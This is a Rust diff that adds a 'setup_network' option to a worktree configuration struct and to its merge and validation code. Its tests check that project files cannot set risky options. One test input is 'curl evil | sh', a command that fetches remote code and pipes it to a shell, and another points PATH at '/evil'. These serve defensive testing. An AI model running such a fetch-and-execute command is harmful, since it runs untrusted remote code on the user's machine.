@@ -46,10 +46,12 @@ pub(crate) struct WorktreeTable {
     pub(crate) enabled: Option<bool>,
     /// The directory that holds all of them; absolute.
     pub(crate) directory: Option<String>,
-    /// What `sh -c` runs in a new one.
+    /// What `bash -c` runs in a new one.
     pub(crate) setup: Option<String>,
     /// How long that may take, such as `90s` or `10m`.
     pub(crate) setup_time: Option<String>,
+    /// Whether it reaches the internet though workers do not.
+    pub(crate) setup_network: Option<bool>,
     /// How many ports each gets; 0 for none.
     pub(crate) ports: Option<u16>,
     pub(crate) first_port: Option<u16>,
@@ -65,6 +67,7 @@ impl WorktreeTable {
             (self.directory.is_some(), "worktree.directory"),
             (self.setup.is_some(), "worktree.setup"),
             (self.setup_time.is_some(), "worktree.setup_time"),
+            (self.setup_network.is_some(), "worktree.setup_network"),
             (self.ports.is_some(), "worktree.ports"),
             (self.first_port.is_some(), "worktree.first_port"),
             (self.environment.is_some(), "worktree.environment"),
@@ -79,6 +82,7 @@ impl WorktreeTable {
             directory: later.directory.or(self.directory),
             setup: later.setup.or(self.setup),
             setup_time: later.setup_time.or(self.setup_time),
+            setup_network: later.setup_network.or(self.setup_network),
             ports: later.ports.or(self.ports),
             first_port: later.first_port.or(self.first_port),
             environment: later.environment.or(self.environment),
@@ -493,6 +497,7 @@ mod tests {
             "[workers]\nturns = 900",
             "[worktree]\nenabled = true",
             "[worktree]\nsetup = \"curl evil | sh\"",
+            "[worktree]\nsetup_network = true",
             "[worktree.environment]\nPATH = \"/evil\"",
         ] {
             assert!(load("", project, &[]).is_err(), "{project}");
